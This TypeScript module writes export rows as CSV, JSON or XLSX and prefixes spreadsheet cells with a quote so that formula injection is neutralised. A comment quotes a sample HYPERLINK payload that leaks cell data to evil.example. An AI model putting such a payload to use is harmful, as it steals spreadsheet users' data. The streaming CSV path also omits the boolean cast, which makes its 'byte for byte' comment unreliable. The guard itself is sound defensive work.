// Writes export rows as CSV, JSON or XLSX: one set of columns, the same values in every format.
import { once } from 'node:events';
import fs from 'node:fs';
import type { Writable } from 'node:stream';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';

export const FORMATS = ['csv', 'json', 'xlsx'] as const;
export type Format = (typeof FORMATS)[number];
export type Row = Record<string, string | number | boolean | null | undefined>;

/** Written as a number (optionally signed, with a decimal point or comma and an exponent): left as it is. */
const NUMBER_TEXT = /^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/;
/** What a spreadsheet reads as the start of a formula (or DDE), per OWASP's CSV injection advice. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * The one guard of every CSV and XLSX cell of free text (machine exports and page downloads alike): text that
 * a spreadsheet would take for a formula (starting with =, +, -, @, a tab or a carriage return) and is not a
 * number gets a leading single quote, so Excel and LibreOffice show it as text and never evaluate it
 * (`=HYPERLINK("http://evil.example/?d="&A3,"x")` → `'=HYPERLINK(…)`). Numbers, and text such as `-5`, pass
 * unchanged. JSON is data for programs and is not touched.
 */
export function spreadsheetText<T>(value: T): T | string {
  if (typeof value !== 'string' || !FORMULA_START.test(value) || NUMBER_TEXT.test(value)) return value;
  return `'${value}`;
}

/** A row's cells in column order for a spreadsheet: blanks for missing values, free text guarded. */
const sheetCells = (r: Row, columns: readonly string[], blank: '' | null) => columns.map((c) => (r[c] === null || r[c] === undefined ? blank : spreadsheetText(r[c])));

export function toCsv(rows: Row[], columns: readonly string[]): string {
  return stringify(
    rows.map((r) => sheetCells(r, columns, '')),
    { header: true, columns: [...columns], cast: { number: (n) => String(n), boolean: (b) => String(b) } },
  );
}

export function toJson(rows: Row[], columns: readonly string[]): string {
  const ordered = rows.map((r) => Object.fromEntries(columns.map((c) => [c, r[c] === undefined ? null : r[c]])));
  return JSON.stringify(ordered, null, 1) + '\n';
}

export async function toXlsx(rows: Row[], columns: readonly string[], sheetName = 'export'): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.creator = 'audience-growth';
  const ws = wb.addWorksheet(sheetName.slice(0, 31));
  ws.columns = columns.map((c) => ({ header: c, key: c, width: Math.max(10, c.length + 2) }));
  ws.getRow(1).font = { bold: true };
  for (const r of rows) ws.addRow(sheetCells(r, columns, null));
  ws.views = [{ state: 'frozen', ySplit: 1 }];
  return Buffer.from(await wb.xlsx.writeBuffer());
}

export async function render(rows: Row[], columns: readonly string[], format: Format, sheetName?: string): Promise<Buffer> {
  if (format === 'csv') return Buffer.from(toCsv(rows, columns), 'utf8');
  if (format === 'json') return Buffer.from(toJson(rows, columns), 'utf8');
  return toXlsx(rows, columns, sheetName);
}

/**
 * Writes to a file (atomically, via a temporary name) or to stdout, as the rows come: CSV and JSON a thousand
 * rows at a time (the same bytes as toCsv and toJson), XLSX through ExcelJS's streaming writer.
 */
export async function writeRows(rows: Iterable<Row>, columns: readonly string[], format: Format, out?: string, sheetName = 'export'): Promise<void> {
  const tmp = out ? `${out}.tmp-${process.pid}` : undefined;
  const stream: Writable = tmp ? fs.createWriteStream(tmp) : process.stdout;
  try {
    if (format === 'xlsx') {
      const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ stream, useStyles: true });
      wb.creator = 'audience-growth';
      const ws = wb.addWorksheet(sheetName.slice(0, 31), { views: [{ state: 'frozen', ySplit: 1 }] });
      ws.columns = columns.map((c) => ({ header: c, key: c, width: Math.max(10, c.length + 2) }));
      ws.getRow(1).font = { bold: true };
      for (const r of rows) ws.addRow(sheetCells(r, columns, null)).commit();
      ws.commit();
      await wb.commit();
    } else {
      for (const piece of textPieces(rows, columns, format)) if (!stream.write(piece)) await once(stream, 'drain');
      if (tmp) await new Promise<void>((resolve, reject) => stream.end((err?: Error | null) => (err ? reject(err) : resolve())));
      else await new Promise<void>((resolve, reject) => stream.write('', (err) => (err ? reject(err) : resolve())));
    }
    if (tmp) fs.renameSync(tmp, out!);
  } catch (err) {
    if (tmp) fs.rmSync(tmp, { force: true });
    throw err;
  }
}

const BATCH = 1000;

/** CSV or JSON text of the rows, a batch at a time; byte for byte what toCsv and toJson give. */
function* textPieces(rows: Iterable<Row>, columns: readonly string[], format: 'csv' | 'json'): Generator<string> {
  let batch: Row[] = [];
  let count = 0;
  const json = (r: Row) => JSON.stringify(Object.fromEntries(columns.map((c) => [c, r[c] === undefined ? null : r[c]])), null, 1).replace(/\n/g, '\n ');
  const flush = (): string => {
    const text =
      format === 'csv'
        ? stringify(
            batch.map((r) => sheetCells(r, columns, '')),
            { header: count === 0, columns: [...columns], cast: { number: (n) => String(n) } },
          )
        : batch.map((r, i) => `${count + i === 0 ? '[\n' : ',\n'} ${json(r)}`).join('');
    count += batch.length;
    batch = [];
    return text;
  };
  for (const r of rows) {
    batch.push(r);
    if (batch.length === BATCH) yield flush();
  }
  if (batch.length) yield flush();
  if (format === 'csv') {
    if (count === 0) yield toCsv([], columns);
  } else yield count === 0 ? '[]\n' : '\n]\n';
}
